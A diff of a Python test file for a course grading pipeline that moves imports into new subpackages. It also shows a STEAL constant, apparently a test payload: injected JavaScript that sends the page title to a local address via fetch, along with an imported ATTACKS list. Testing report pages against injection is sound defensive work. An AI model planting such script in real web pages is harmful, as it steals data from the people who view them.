@@ -8,14 +8,14 @@ import pytest
 from copydetect import CodeFingerprint
 
 from dgm_course.homework.course import Homework, Task, homework
-from grading.pipeline.course_total import CourseTotal
-from grading.pipeline.feedback import write_feedback
-from grading.pipeline.ledger import Ledger
-from grading.pipeline.report import report_page, write_report
-from grading.pipeline.results import Result, TaskResult, TestResult
-from grading.pipeline.sample_class import ATTACKS, attack
-from grading.pipeline.similarity import Pair
-from grading.pipeline.submission import grade_submission
+from grading.pipeline.grades.course_total import CourseTotal
+from grading.pipeline.grades.ledger import Ledger
+from grading.pipeline.marking.results import Result, TaskResult, TestResult
+from grading.pipeline.marking.submission import grade_submission
+from grading.pipeline.material.sample_class import ATTACKS, attack
+from grading.pipeline.pages.feedback import write_feedback
+from grading.pipeline.pages.report import report_page, write_report
+from grading.pipeline.pages.similarity import Pair
 from grading.sandbox.client import Sandbox
 
 STEAL = "window.top.stolen = 1; console.log(1); alert(1); fetch('http://127.0.0.1:9/?' + document.title)"
